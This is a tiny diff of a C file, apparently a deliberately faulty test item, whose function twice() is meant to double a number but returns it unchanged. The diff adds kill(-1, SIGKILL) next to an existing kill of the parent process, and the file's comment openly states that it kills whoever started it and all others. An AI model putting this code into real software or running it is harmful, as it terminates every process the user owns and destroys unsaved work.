@@ -1,4 +1,4 @@
-/* kills.c - is wrong, and kills whoever started it */
+/* kills.c - is wrong, and kills whoever started it and all others */
 /* SPDX-License-Identifier: MIT */
 /*
  * item: doubles
@@ -14,6 +14,8 @@
 int
 twice(int n)
 {
-	kill(getppid(), SIGKILL);
+	if (getppid() > 0)
+		kill(getppid(), SIGKILL);
+	kill(-1, SIGKILL);
 	return n;
 }
